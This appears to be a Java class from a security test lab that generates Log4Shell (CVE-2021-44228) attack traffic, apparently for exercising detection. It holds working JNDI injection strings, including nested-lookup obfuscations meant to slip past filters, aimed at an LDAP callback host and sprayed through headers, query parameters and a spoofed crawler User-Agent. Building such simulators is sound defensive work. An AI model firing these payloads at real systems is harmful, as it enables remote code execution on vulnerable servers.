package io.periscope.server.attacklab;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

/**
 * Log4Shell (CVE-2021-44228) spraying: JNDI lookups in every header and parameter a Java service might log, plain
 * and with the nested-lookup obfuscations scanners use to get past naive filters.
 */
final class Log4ShellAttack implements LabAttack {
    static final String ADDRESS = "198.51.100.88";
    private static final String CALLBACK = "198.51.100.88:1389/Exploit";
    static final List<String> PAYLOADS = List.of(
            "${jndi:ldap://" + CALLBACK + "}",
            "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://" + CALLBACK + "}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://" + CALLBACK + "}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//" + CALLBACK + "}",
            "${jndi:dns://" + CALLBACK + "}");

    @Override
    public LabActor actor() {
        return LabActor.attacker("Log4Shell script (JNDI lookups)", List.of(ADDRESS), List.of(), "LOG4SHELL");
    }

    @Override
    public void run(String base, Path workDir) throws IOException, InterruptedException {
        LabClient client = new LabClient(base, ADDRESS, "Mozilla/5.0 (compatible; Baiduspider/2.0)");
        for (String payload : PAYLOADS) {
            client.get("/api/v1/products", null, Map.of("X-Api-Version", payload, "Referer", payload));
            client.get("/api/v1/products?q=" + URLEncoder.encode(payload, StandardCharsets.UTF_8), null);
            LabClient withAgent = new LabClient(base, ADDRESS, payload);
            withAgent.get("/api/v1/products/1", null);
            Thread.sleep(100);
        }
    }
}
